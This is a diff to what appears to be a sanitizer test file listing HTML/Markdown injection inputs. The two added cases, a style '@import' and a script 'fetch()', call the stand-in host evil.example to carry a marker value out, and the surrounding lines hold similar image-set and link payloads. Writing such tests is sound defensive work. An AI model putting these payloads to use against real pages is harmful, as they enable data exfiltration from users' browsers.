@@ -51,6 +51,8 @@ INSIDE = {
     "an attribute behind the last line of a style": "<style></style> <b title=\"\nhttps://evil.example/style= a\"> ;background:image-set('//1.2.3.4/?q= MARK')",
     "an attribute behind the end of a list": "- <div x=\"\n![a\"> style=background:image-set('//1.2.3.4/?q= MARK')](z)",
     "a style's end over a blank line": "a <style></style\n\n>@import '//evil.example/?q= MARK'",
+    "a style that looks like a placeholder": "<style _1>@import '//evil.example/?q= MARK'",
+    "a script that looks like a placeholder": "<script _1>fetch('//evil.example/?q= MARK')",
     "quotes in a URL that is no link yet": 'https://evil.example/?q="<b>MARK"',
     "brackets in a URL that is no link yet": '"https://evil.example/?q=("MARK)',
     "a URL with a tag in it": "<https://evil.example/?q=(</svg>MARK)",
